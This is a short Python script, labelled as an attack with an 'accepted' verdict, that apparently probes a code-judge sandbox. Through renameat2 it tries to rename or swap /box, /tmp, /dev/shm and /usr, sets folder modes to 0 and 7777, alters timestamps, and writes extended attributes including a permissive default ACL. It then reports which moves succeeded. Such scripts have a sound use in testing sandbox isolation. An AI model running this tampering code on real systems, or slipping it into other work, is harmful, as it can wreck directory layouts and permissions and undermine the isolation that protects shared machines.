# Attack: moves and exchanges the folders it may write to, and changes all that their owner can.
# Verdict: accepted
import ctypes, os

libc = ctypes.CDLL(None)
folders = ['/box', '/tmp', '/dev/shm']
done = []
for folder in folders:
    for other in folders + ['/box/in', '/usr']:
        for flags in (0, 1, 2):
            if libc.renameat2(-100, folder.encode(), -100, other.encode(), flags) == 0:
                done.append(f'{folder} to {other}')
    for change in [lambda: os.chmod(folder, 0), lambda: os.chmod(folder, 0o7777), lambda: os.utime(folder, (2**31, 2**31)),
                   lambda: os.setxattr(folder, 'user.assay-hostile', b'x'),
                   lambda: os.setxattr(folder, 'system.posix_acl_default', bytes.fromhex('0200000001000700ffffffff04000700ffffffff20000700ffffffff'))]:
        try:
            change()
        except OSError:
            pass
print(*done or ['unharmed'], input())
